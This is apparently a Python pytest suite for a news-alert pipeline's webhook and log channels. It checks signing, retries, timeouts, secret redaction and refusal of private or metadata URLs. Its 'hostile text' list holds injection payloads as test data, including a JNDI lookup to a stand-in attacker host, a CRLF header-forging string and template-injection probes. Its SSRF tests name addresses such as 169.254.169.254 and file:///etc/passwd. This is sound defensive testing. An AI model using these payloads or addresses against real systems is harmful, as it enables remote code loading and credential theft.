from __future__ import annotations

import asyncio
import base64
import hmac
import itertools
import json
import logging
import traceback
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from structlog.testing import capture_logs
from stub_server import Answer, StubServer

from pipeline.adapters import channels
from pipeline.adapters.channels import LogChannel, WebhookChannel, alert_payload, inert, retry_after_seconds
from pipeline.adapters.http import HttpDoor
from pipeline.errors import CannotSend, ChannelGone, TryLater, UsageError
from pipeline.rule import Alert, Delivery

NOW = datetime(2024, 3, 15, 12, 0, tzinfo=UTC)
KEY = bytes(range(32))
SECRET = "whsec_" + base64.b64encode(KEY).decode()
ALERT = Alert(
    id="a1b2c3d4",
    rule="quakes",
    rule_name="Earthquakes",
    family="f00d",
    article_id="beef",
    title="Größeres Beben vor Küste",
    url="https://news.example/beben",
    outlet="News",
    published=NOW - timedelta(hours=1),
    first_seen=None,
    raised_at=NOW - timedelta(seconds=5),
)


@pytest.fixture
def server() -> Iterator[StubServer]:
    with StubServer() as stub:
        yield stub


def delivery(**changes: Any) -> Delivery:
    return Delivery(id=7, alert=msgspec.structs.replace(ALERT, **changes), channel="webhook", attempts=0)


def send(url: str, *servers: StubServer, alert: dict[str, Any] | None = None, secret: str = SECRET) -> None:
    async def run() -> None:
        async with HttpDoor(user_agent="Wirewatch/test", allowed=[server.address for server in servers]) as http:
            await WebhookChannel(url, secret, http, clock=lambda: NOW).send(delivery(**(alert or {})))

    asyncio.run(run())


# --- webhook ----------------------------------------------------------------------------------------------------------


def test_an_alert_arrives_as_json_that_its_receiver_can_verify(server: StubServer) -> None:
    server.on("/hook", Answer(status=204))
    send(server.url("/hook"), server)
    request = server.requests[0]
    assert (request.method, request.headers["content-type"]) == ("POST", "application/json")
    assert json.loads(request.body) == {
        "type": "alert.raised",
        "timestamp": "2024-03-15T11:59:55Z",
        "data": {
            "id": "a1b2c3d4",
            "rule": "quakes",
            "rule_name": "Earthquakes",
            "family": "f00d",
            "raised_at": "2024-03-15T11:59:55Z",
            "article": {
                "id": "beef",
                "title": "Größeres Beben vor Küste",
                "url": "https://news.example/beben",
                "outlet": "News",
                "published": "2024-03-15T11:00:00Z",
                "first_seen": None,
            },
        },
    }
    # As the docstring of WebhookChannel tells receivers.
    headers = request.headers
    signed = f"{headers['webhook-id']}.{headers['webhook-timestamp']}.".encode() + request.body
    expected = "v1," + base64.b64encode(hmac.digest(KEY, signed, "sha256")).decode()
    assert headers["webhook-signature"] == expected
    assert headers["webhook-id"] == "a1b2c3d4"
    assert headers["webhook-timestamp"] == str(int(NOW.timestamp()))


def test_the_signature_is_that_of_the_standards_own_example() -> None:
    # The example of the Standard Webhooks libraries' tests and of docs.svix.com, "Verifying webhooks manually".
    secret, body = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw", b'{"test": 2432232314}'
    clock = lambda: datetime.fromtimestamp(1614265330, UTC)  # noqa: E731
    channel = WebhookChannel("https://hooks.example/", secret, http=None, clock=clock)  # type: ignore[arg-type]
    headers = channel._headers("msg_p5jXN8AQM9LWM0D4loKWxJek", 1614265330, body)
    assert headers["webhook-signature"] == "v1,g0hM9SsE+OTPJTGt/tmIKtSyZlE3uFJELVlNIOLJ1OE="


def test_every_attempt_carries_the_same_id_and_body(server: StubServer) -> None:
    server.on("/hook", Answer(status=500), Answer(status=200))
    with pytest.raises(TryLater):
        send(server.url("/hook"), server)
    send(server.url("/hook"), server)
    first, second = server.requests
    assert first.headers["webhook-id"] == second.headers["webhook-id"]
    assert first.body == second.body


@pytest.mark.parametrize("status", [200, 201, 202, 204, 299])
def test_any_2xx_is_delivery(server: StubServer, status: int) -> None:
    server.on("/hook", Answer(status=status, body=b""))
    send(server.url("/hook"), server)


@pytest.mark.parametrize("status", [301, 302, 307, 400, 401, 403, 404, 408, 409, 429, 500, 502, 503, 504])
def test_any_other_answer_is_tried_again_and_named(server: StubServer, status: int) -> None:
    server.on("/hook", Answer(status=status, headers={"Location": "/elsewhere"} if status < 400 else {}))
    with pytest.raises(TryLater, match=rf"^webhook: 127\.0\.0\.1 answers {status}") as caught:
        send(server.url("/hook"), server)
    assert caught.value.retry_seconds is None
    assert len(server.requests) == 1


def test_410_is_the_end(server: StubServer) -> None:
    server.on("/hook", Answer(status=410))
    with pytest.raises(ChannelGone, match="answers 410, it wants no more"):
        send(server.url("/hook"), server)


@pytest.mark.parametrize("status", [429, 503])
def test_the_receiver_says_when_to_try_again(server: StubServer, status: int) -> None:
    server.on("/hook", Answer(status=status, headers={"Retry-After": "120"}))
    with pytest.raises(TryLater) as caught:
        send(server.url("/hook"), server)
    assert caught.value.retry_seconds == 120


@pytest.mark.parametrize(
    ("value", "seconds"),
    [
        ("0", 0),
        (" 30 ", 30),
        ("86401", 86400),
        ("9" * 400, 86400),
        ("Fri, 15 Mar 2024 12:01:30 GMT", 90),
        ("Fri, 15 Mar 2024 12:01:30", 90),
        ("Friday, 15-Mar-24 12:01:30 GMT", 90),
        ("Fri, 15 Mar 2024 11:00:00 GMT", 0),
        ("Fri, 15 Mar 2990 11:00:00 GMT", 86400),
        ("", None),
        ("soon", None),
        ("-5", None),
        ("1.5", None),
        ("٣", None),
        ("Fri, 99 Mar 2024 99:99:99 GMT", None),
    ],
)
def test_retry_after_is_read_as_seconds_or_date_and_capped_at_a_day(value: str, seconds: float | None) -> None:
    assert retry_after_seconds(value, NOW) == seconds


@given(st.text(max_size=40) | st.from_regex(r"\w{3}, \d+ \w{3} \d+ \d+:\d+:\d+ [+-]?\w{1,6}"))
def test_any_retry_after_is_a_wait_within_a_day_or_none(value: str) -> None:
    seconds = retry_after_seconds(value, NOW)
    assert seconds is None or 0 <= seconds <= 86400


@pytest.mark.parametrize(
    ("answer", "cause"),
    [
        (Answer(hang=True), r"no complete answer from 127\.0\.0\.1 within 0\.3 s"),
        (Answer(chunks=itertools.repeat(b"x"), pause_seconds=0.05), r"within 0\.3 s"),
        (Answer(reset=True), "the connection|closed"),
    ],
    ids=["hangs", "drips", "resets"],
)
def test_a_receiver_that_does_not_answer_properly_is_tried_again(
    server: StubServer, answer: Answer, cause: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(channels, "WEBHOOK_DEADLINE_SECONDS", 0.3)
    server.on("/hook", answer)
    with pytest.raises(TryLater, match=cause):
        send(server.url("/hook"), server)


def test_the_deadline_is_ten_seconds() -> None:
    assert channels.WEBHOOK_DEADLINE_SECONDS == 10


@pytest.mark.parametrize(
    "url",
    [
        *("http://127.0.0.1:9/", "http://169.254.169.254/latest", "http://[::ffff:10.0.0.1]/", "http://2130706433/"),
        *("file:///etc/passwd", "https://user:canary@hooks.example/", "http://hooks.example\\@10.0.0.1/", "", "hooks"),
    ],
)
def test_an_address_that_is_refused_keeps_the_alert_back_with_the_reason(url: str) -> None:
    with pytest.raises(CannotSend, match=r"^webhook: .+") as caught:
        send(url)
    assert "canary" not in str(caught.value)


def test_a_redirect_to_a_private_address_is_not_followed(server: StubServer) -> None:
    with StubServer() as inside:
        server.on("/hook", Answer(status=307, headers={"Location": inside.url("/admin")}))
        with pytest.raises(TryLater, match="307, a redirect, which webhooks do not follow"):
            send(server.url("/hook"), server)
        assert inside.connections == 0


# --- hostile text -----------------------------------------------------------------------------------------------------

HOSTILE = [
    *("{{7*7}}", "{0.__class__}", "${jndi:ldap://evil.example/a}", "@everyone", "<!channel>", "%n%s", "<script>"),
    *(
        '", "admin": true, "x": "',
        "a\r\nwebhook-id: forged\r\n\r\n",
        "a\x00b\x1b[31m",
        "\u202egnp.exe",
        "\ud800",
        "\u2028",
    ),
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_from_outside_is_data_in_every_channel(server: StubServer, text: str) -> None:
    server.on("/hook", Answer())
    send(server.url("/hook"), server, alert={"title": text, "outlet": text, "url": text, "rule_name": text})
    assert json.loads(server.requests[0].body)["data"]["article"]["title"] == inert(text)
    assert set(server.requests[0].headers) == {
        *("host", "user-agent", "accept", "accept-encoding", "content-type", "content-length"),
        *("webhook-id", "webhook-timestamp", "webhook-signature"),
    }
    with capture_logs() as logs:
        asyncio.run(LogChannel().send(delivery(title=text)))
    assert logs[0]["title"] == inert(text)


@given(st.text())
def test_inert_text_is_one_line_that_any_receiver_can_read(text: str) -> None:
    made = inert(text)
    assert len(made.splitlines()) <= 1
    made.encode("utf-8")
    assert inert(made) == made
    assert not {"\u202e", "\x1b", "\x00"} & set(made)


def test_usual_text_stays_as_it_is() -> None:
    for text in ("Größe", "👩‍👩‍👧", "می‌خواهم", "Q1 & Q2 <draft>", "北京"):
        assert inert(text) == text


def test_the_payload_of_one_alert_is_always_the_same_bytes() -> None:
    assert alert_payload(ALERT) == alert_payload(msgspec.structs.replace(ALERT))


# --- secrets ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "secret",
    [
        *("", "canary", "whsec_", "whsec_canary", "whsec_!!!!", SECRET.removeprefix("whsec_"), "whsec_" + "Y2Fu" * 7),
        *("whsec_" + base64.b64encode(bytes(65)).decode(), "whsec_ü" + "A" * 40),
    ],
)
def test_a_secret_of_another_form_is_refused_without_being_shown(secret: str) -> None:
    with pytest.raises(UsageError, match="make one with: python3 -c") as caught:
        WebhookChannel("https://hooks.example/", secret, http=None, clock=lambda: NOW)  # type: ignore[arg-type]
    assert secret in {"", "whsec_"} or secret not in str(caught.value)


def test_neither_the_secret_nor_the_path_of_the_url_shows_anywhere(
    server: StubServer, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    url = server.url("/T000/canary?token=canary")
    channel = WebhookChannel(url, SECRET, http=None, clock=lambda: NOW)  # type: ignore[arg-type]
    shown = [repr(channel), str(channel)]
    for answer in (Answer(status=401), Answer(status=410), Answer(reset=True), Answer(raw=b"nonsense\r\n\r\n")):
        server.on("/T000/canary", answer)
        with pytest.raises((TryLater, ChannelGone)) as caught:
            send(url, server)
        shown += [str(caught.value), repr(caught.value), *traceback.format_exception(caught.value)]
    for text in (*shown, caplog.text):
        assert "canary" not in text
        assert SECRET not in text


# --- log --------------------------------------------------------------------------------------------------------------


def test_an_alert_is_one_line_of_the_log() -> None:
    with capture_logs() as logs:
        asyncio.run(LogChannel().send(delivery()))
    assert logs == [
        {
            "event": "alert",
            "log_level": "info",
            "id": "a1b2c3d4",
            "rule": "quakes",
            "title": "Größeres Beben vor Küste",
            "url": "https://news.example/beben",
            "outlet": "News",
            "published": "2024-03-15T11:00:00+00:00",
            "first_seen": None,
        }
    ]
